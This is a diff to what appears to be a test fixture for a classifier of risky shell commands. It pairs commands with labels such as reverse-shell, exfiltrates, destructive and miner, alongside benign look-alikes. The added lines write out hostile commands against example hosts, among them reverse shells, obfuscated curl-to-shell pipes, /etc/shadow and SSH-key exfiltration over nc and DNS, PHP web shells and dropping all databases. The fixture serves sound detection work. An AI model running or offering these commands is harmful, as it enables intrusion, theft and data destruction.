@@ -48,6 +48,97 @@ const EXACT: readonly (readonly [string, string])[] = [
   ["curl -s --data-raw 'status=ok' https://hc.example.test/x", "network-ping"],
   ["nc -z 192.0.2.1 22", "network-ping"],
   ["timeout 1 bash -c '</dev/tcp/192.0.2.1/22'", "network-ping"],
+  // Shells and processes that show as something else.
+  ["setsid nohup sh -i >& /dev/udp/192.0.2.7/53 0>&1", "reverse-shell"],
+  ["nohup logger x > /dev/tcp/192.0.2.7/514", "network-ping"],
+  [
+    "zmodload zsh/net/tcp && ztcp 192.0.2.7 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
+    "fetch-to-interpreter reverse-shell",
+  ],
+  ["exec -a '[kthreadd]' /usr/local/bin/x", "disguises-process"],
+  ["perl -e '$0 = \"[kworker/0:1]\"; sleep 1'", "disguises-process"],
+  // Names and blanks in pieces, and quotes that are none.
+  ["curl${IFS}-s${IFS}http://192.0.2.7/x|sh", "fetch fetch-to-interpreter"],
+  ["curl$IFS$9-s$IFS$9http://192.0.2.7/x|sh", "fetch fetch-to-interpreter"],
+  ['"/srv/my tool"/run.sh --cron', ""],
+  ['"/root/bin"/acme.sh --cron', ""],
+  // Package managers of languages, told to install from an address.
+  ["pip install -q --index-url http://192.0.2.7/simple tool", "fetch-to-interpreter"],
+  ["python3 -m pip install git+http://192.0.2.7/x.git", "fetch-to-interpreter"],
+  ["pip install --upgrade --index-url https://pypi.example.test/simple tool", ""],
+  ["npx --yes https://cdn.example.test/x.tgz", "fetch-to-interpreter"],
+  ["npm ci", ""],
+  ["pip install -r requirements.txt", ""],
+  // A web page that runs what its visitor sends.
+  ["php -r 'system($_GET[\"c\"]);'", "reverse-shell"],
+  ["php -r '$x = $_POST[\"c\"]; @eval($x);'", "reverse-shell"],
+  ["php -r 'echo htmlspecialchars($_GET[\"c\"]);'", ""],
+  // Miners under another name.
+  ["/usr/lib/x/gov --algo rx/0 -o pool.example.test:443 -u 44x", "miner"],
+  ["ffmpeg -a copy -o out.mkv", ""],
+  // Names of update servers that lead nowhere, and a list against advertisements.
+  ["echo '127.0.0.1 security.debian.example.test' >> /etc/hosts", "kills-security-tool"],
+  ["echo '0.0.0.0 ads.example.test' >> /etc/hosts", ""],
+  // A process hidden from lists, and mounts as they are.
+  ["mount --bind /var/empty /proc/1234", "disguises-process"],
+  ["mount --bind /srv/a /srv/b; mount -t proc proc /proc", ""],
+  // Secrets in a stream, and data in names.
+  ["tar czf - /etc/shadow /home/*/.ssh | nc -w 5 192.0.2.7 9001", "exfiltrates"],
+  ["xxd -p /etc/shadow | while read l; do dig +short $l.x.example.test; done", "exfiltrates"],
+  ["cat /srv/names | while read n; do dig +short A example.test; done", ""],
+  // What was checked before it runs, and what a check does not help.
+  [
+    "curl -fsSo /srv/x https://dl.example.test/x; curl -fsSo /srv/s https://dl.example.test/s; cd /srv; sha256sum -c s; chmod +x x; ./x",
+    "fetch",
+  ],
+  ["curl -o /srv/x https://dl.example.test/x; gpg --verify /srv/x.asc /srv/x && bash /srv/x", "fetch"],
+  ["curl -o /srv/x http://192.0.2.7/x; sha256sum -c s; bash /srv/x", "fetch fetch-to-interpreter"],
+  ["curl -o /srv/x https://dl.example.test/x; sha256sum /srv/x; bash /srv/x", "fetch fetch-to-interpreter"],
+  // Databases dropped one and all, and one copy that is refreshed.
+  ["for d in $(mysql -N -e 'show databases'); do mysql -e \"drop database $d\"; done", "destructive"],
+  ["mysql -e 'drop database staging; create database staging'", ""],
+  ["dropdb --if-exists test_app && createdb test_app", ""],
+  ["rm -rf /srv/data /var/lib/mysql", "destructive"],
+  ["rm -rf /var/lib/mysql/tmp_restore /var/lib/mysql-files/old", ""],
+  // Tracers.
+  ["strace -f -p 1234 -e read -o /var/lib/x", "attaches-to-process"],
+  ["pgrep -x sshd | xargs -I{} strace -p {} -o /var/lib/x", "attaches-to-process"],
+  ["strace -o /srv/x.trace /usr/bin/true", ""],
+  // Code that other code prints.
+  [
+    "awk 'BEGIN{print \"curl -s http://192.0.2.7/s | sh\"}' | sh",
+    "decode-to-interpreter fetch fetch-to-interpreter",
+  ],
+  ["python3 -c 'print(\"nc -e /bin/sh 192.0.2.7 1\")' | sh", "decode-to-interpreter reverse-shell"],
+  ["python3 -c 'print(\"hello\")' | mail root", ""],
+  [
+    'a=(c u r l); IFS=; x="${a[*]}"; unset IFS; $x -s http://192.0.2.7/i | bash',
+    "fetch fetch-to-interpreter",
+  ],
+  // What Python, PHP and Node write from the network and run.
+  [
+    'python3 -c \'import urllib.request, os; urllib.request.urlretrieve("http://192.0.2.7/x", "/srv/x"); os.system("/srv/x")\'',
+    "fetch fetch-to-interpreter",
+  ],
+  [
+    'php -r \'$c = file_get_contents("http://192.0.2.7/c"); file_put_contents("/srv/m.php", $c); include "/srv/m.php";\'',
+    "fetch fetch-to-interpreter",
+  ],
+  [
+    'node -e \'require("https").get("https://192.0.2.7/m", r => { let d=""; r.on("data", c => d += c); r.on("end", () => eval(d)) })\'',
+    "fetch fetch-to-interpreter",
+  ],
+  ['node -e \'require("https").get("https://x.example.test/", r => r.pipe(process.stdout))\'', "fetch"],
+  // Ways in, and a way out for the length of a job.
+  ["/usr/local/libexec/m --tun=userspace-networking --socks5-server=127.0.0.1:1055", "tunnel"],
+  ["/usr/bin/gs -k /etc/x.dat -liqD", "tunnel"],
+  ["ls -lid /srv", ""],
+  // What a chat alert says of a host, and what a spy wants to know.
+  [
+    'curl -s -d "text=$(hostname) is full: $(df -h / | tail -1)" https://chat.example.test/x',
+    "exfiltrates network-ping",
+  ],
+  ['curl -s -d "$(id; ip addr)" https://chat.example.test/x', "exfiltrates network-ping"],
   // Fetch, and what becomes of it.
   [`${FETCH} | sh`, "fetch fetch-to-interpreter"],
   [`${FETCH} | sudo bash -s -- --yes`, "fetch fetch-to-interpreter"],
